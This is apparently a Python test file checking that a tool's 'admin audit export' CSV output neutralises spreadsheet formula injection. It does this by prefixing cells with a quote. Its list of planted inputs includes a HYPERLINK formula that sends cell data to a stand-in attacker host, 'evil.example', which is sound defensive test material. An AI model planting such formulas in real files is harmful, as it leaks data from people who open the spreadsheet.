"""`admin audit export --format csv` writes a cell a key holder chose (here the model name) so
that a spreadsheet shows it as text and never runs it as a formula (OWASP: CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

from typer.testing import CliRunner

from gemeingut.cli import app
from gemeingut.serve.gateway.gate import Gateway
from gemeingut.serve.gateway.store import open_store

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "demo",
]


def test_formula_cells_are_written_as_text(tmp_path: Path) -> None:
    db = tmp_path / "gateway.db"
    gateway = Gateway(open_store(str(db)))
    for model in PLANTED:
        gateway.record("/v1/chat/completions", 200, "allowed", model=model)
    out = tmp_path / "a.csv"
    said = CliRunner().invoke(
        app, ["admin", "audit", "export", "--db", str(db), "--format", "csv", "--out", str(out)]
    )
    assert said.exit_code == 0, said.output
    with out.open(encoding="utf-8", newline="") as f:
        models = [row["model"] for row in csv.DictReader(f)]
    assert models == ["'" + m for m in PLANTED[:-1]] + ["demo"]
